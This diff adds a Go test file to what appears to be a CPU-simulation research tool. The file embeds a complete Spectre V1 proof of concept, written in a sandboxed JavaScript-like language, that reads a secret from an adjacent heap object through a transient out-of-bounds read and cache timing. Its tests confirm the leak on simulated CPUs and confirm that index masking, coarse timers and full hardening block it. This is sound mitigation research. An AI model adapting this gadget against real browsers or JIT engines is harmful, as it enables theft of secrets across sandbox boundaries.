@@ -1,0 +1,114 @@
+package js
+
+import (
+	"testing"
+
+	"spectrebench/internal/kernel"
+	"spectrebench/internal/model"
+)
+
+// sandboxSpectreSrc is Spectre V1 written in the sandboxed language
+// itself — the attack the browser mitigations exist for. The "secret"
+// is a value in an adjacent heap object, reachable only by a transient
+// out-of-bounds read past arr's bounds check:
+//
+//	heap layout (bump allocator, allocation order):
+//	  [len=4][arr0..arr3] [len=1][SECRET] [probe...] [evict...]
+//
+// so arr[5] is the secret. The gadget function keeps the dependent
+// probe access inside the speculation window; recovery is classic
+// prime-and-time over the probe array using clock().
+const sandboxSpectreSrc = `
+function gadget(a, p, i) {
+	// bounds check -> (transient) load -> dependent probe touch
+	return p[(a[i] % 256) * 8];
+}
+
+var arr = [1, 2, 3, 4];
+var secretHolder = [83];
+var probe = new Array(2048);  // 256 cache lines at 8 slots/line
+var evict = new Array(8192);  // 64 KiB: evicts the whole L1
+
+// Phase 1: train the bounds check in-bounds.
+var junk = 0;
+for (var it = 0; it < 32; it = it + 1) {
+	junk = junk + gadget(arr, probe, it % 4);
+}
+
+// Phase 2: evict the probe array from the cache.
+for (var i = 0; i < evict.length; i = i + 1) {
+	junk = junk + evict[i];
+}
+
+// Phase 3: the transient out-of-bounds read (arr[5] = the secret).
+junk = junk + gadget(arr, probe, 5);
+
+// Phase 4: time every probe line; the hot one encodes the secret.
+var best = 0 - 1;
+var bestLat = 1000000;
+for (var v = 0; v < 256; v = v + 1) {
+	var t0 = clock();
+	junk = junk + probe[v * 8];
+	var t1 = clock();
+	if (t1 - t0 < bestLat) {
+		bestLat = t1 - t0;
+		best = v;
+	}
+}
+report(best);
+report(junk % 2);  // keep junk live
+`
+
+// runSandboxAttack executes the in-sandbox attack under the given JIT
+// hardening and returns the recovered byte.
+func runSandboxAttack(t *testing.T, m *model.CPU, mit Mitigations) int64 {
+	t.Helper()
+	e := NewEngine(m, kernel.Defaults(m), mit)
+	res, err := e.Run(sandboxSpectreSrc, 200_000_000)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return res.Reports[0]
+}
+
+// With no JIT hardening and a precise timer, JavaScript reads beyond its
+// own array bounds — on every CPU in the study, because no hardware
+// fixes Spectre V1 (§7).
+func TestSandboxSpectreLeaks(t *testing.T) {
+	for _, m := range []*model.CPU{model.Broadwell(), model.IceLakeServer(), model.Zen3()} {
+		got := runSandboxAttack(t, m, Mitigations{})
+		if got != 83 {
+			t.Errorf("%s: in-sandbox Spectre recovered %d, want the secret 83", m.Uarch, got)
+		}
+	}
+}
+
+// Index masking clamps the transient index to zero: the attacker sees
+// arr[0]'s value instead of the secret.
+func TestSandboxSpectreBlockedByIndexMasking(t *testing.T) {
+	m := model.IceLakeServer()
+	got := runSandboxAttack(t, m, Mitigations{IndexMasking: true})
+	if got == 83 {
+		t.Fatal("secret leaked despite index masking")
+	}
+}
+
+// Coarsening the timer alone also defeats the recovery: the probe
+// timings quantise to the same bucket, so the hot line is
+// indistinguishable (the Firefox performance.now change, §2).
+func TestSandboxSpectreBlockedByReducedTimer(t *testing.T) {
+	m := model.IceLakeServer()
+	got := runSandboxAttack(t, m, Mitigations{ReducedTimer: true})
+	if got == 83 {
+		t.Fatal("secret leaked despite the coarse timer")
+	}
+}
+
+// The full browser hardening obviously blocks it too.
+func TestSandboxSpectreBlockedByFullHardening(t *testing.T) {
+	m := model.Zen3()
+	got := runSandboxAttack(t, m, AllMitigations())
+	if got == 83 {
+		t.Fatal("secret leaked despite full hardening")
+	}
+}
